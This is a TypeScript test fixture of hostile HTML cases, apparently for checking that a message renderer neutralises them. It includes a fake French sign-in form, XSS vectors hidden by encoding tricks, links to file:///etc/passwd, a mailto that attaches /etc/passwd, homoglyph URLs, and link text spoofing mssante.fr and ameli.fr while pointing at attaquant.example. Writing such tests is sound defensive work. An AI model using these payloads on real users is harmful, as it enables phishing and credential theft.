import { family } from "./hostile-case";

/** H09, H10, H13, L01–L04, L07, M05: whatever would deceive the person or lead the page away. */
export const DECEPTIONS = family([
  {
    id: "H09",
    about: "forms and a false sign-in",
    html: (
      at,
      pwn,
    ) => `<form action="${at("form")}" method=post target=_top onsubmit="${pwn}"><input name=user autofocus>
      <input type=password name=word><input type=submit value="Se connecter"><button formaction="${at("formaction")}">Valider</button>
      <input type=image src="${at("image")}"></form><button form=f formaction="javascript:${pwn}">x</button><isindex action="${at("isindex")}">
      <select onchange="${pwn}"><option>x</select><textarea>mot de passe</textarea><keygen><dialog open>Session expirée</dialog>
      <div contenteditable>écrire</div><label for=x>mot</label><a href="${at("get")}" ping="${at("ping")}">envoyer</a>`,
  },
  {
    id: "H10",
    about: "styles that would cover the window",
    html: () => `<style>*{position:fixed!important;inset:0;z-index:2147483647}</style>
      <div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red">recouvre</div>
      <div style="position:absolute;margin:-9999px 0 0 -9999px;width:99999px;height:99999px">loin</div>
      <a href="https://attaquant.example/" style="position:fixed;inset:0;opacity:0;display:block">partout</a>
      <div style="margin-top:-500px;transform:scale(50)">marge</div><p style="font-size:900000px">grand</p>`,
  },
  {
    id: "H13",
    about: "addresses that are programs or documents",
    html: (at, pwn) =>
      [
        `javascript:${pwn}`,
        `java&#10;script:${pwn}`,
        `java\tscript:${pwn}`,
        ` &#1; javascript:${pwn}`,
        `JaVaScRiPt&colon;${pwn}`,
        `data:text/html,<script>${pwn}</script>`,
        "blob:app://ui/0000",
        "filesystem:app://ui/x",
        `vbscript:${pwn}`,
        `view-source:${at("source")}`,
        "app://ui/index.html",
        "about:blank",
        `//${at("rel").slice(7)}`,
      ]
        .map((href, index) => `<a href="${href}">lien ${index}</a>`)
        .join(" "),
  },
  {
    id: "L01",
    about: "schemes of other programs",
    html: () =>
      [
        "file:///etc/passwd",
        "smb://h/x",
        "ftp://h/x",
        "ldap://h",
        "ms-word:ofe|u|x",
        "search-ms:q",
        "shell:x",
        "tel:15",
      ]
        .concat([
          "vbscript:x",
          "mailto:a@b.example?attach=/etc/passwd&bcc=c@d.example",
          "inconnu:x",
          "pli:x",
          "\\\\h\\x",
        ])
        .map((href) => `<a href="${href}">${href.split(":")[0]}</a>`)
        .join(" "),
  },
  {
    id: "L02",
    about: "https addresses written to deceive",
    html: (at) =>
      [
        "https://banque.example@attaquant.example/",
        "https://attaquant.example\\@banque.example/",
        "https:attaquant.example",
        `${" ".repeat(300)}https://attaquant.example/x`,
        "https://attaquant.example/\u202emoc.elpmaxe",
        "https://аррӏе.example/",
        `https://${at("tls").slice(7)}`,
        `https://attaquant.example/${"a".repeat(5000)}`,
      ]
        .map((href, index) => `<a href="${href}">adresse ${index}</a>`)
        .join(" "),
  },
  {
    id: "L03",
    about: "a text that names another site than its link",
    html: () =>
      `<a href="https://attaquant.example/">https://mssante.fr/</a> <a href="https://attaquant.example/">www.ameli.fr</a>`,
  },
  {
    id: "L07",
    about: "links that open windows",
    html: (at) => `<a href="https://attaquant.example/" target="_blank" rel=opener>fenêtre</a>
      <a href="https://attaquant.example/" target="_top">dessus</a><a href="${at("plain")}" target="_parent">parent</a>
      <a href="https://attaquant.example/x.exe" download="x.exe">fichier</a><a href="#ancre">ancre</a>
      <map name=m><area shape=default href="${at("area")}"></map><img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
  },
  {
    id: "M05",
    about: "markup in the subject and in the name",
    subject: (at, pwn) => `<img src=${at("subject")} onerror=${pwn}><b>gras</b>`,
    html: (_at, pwn) => `<title>${pwn}</title><p title="<script>${pwn}</script>" lang="&lt;img&gt;">texte</p>`,
  },
]);
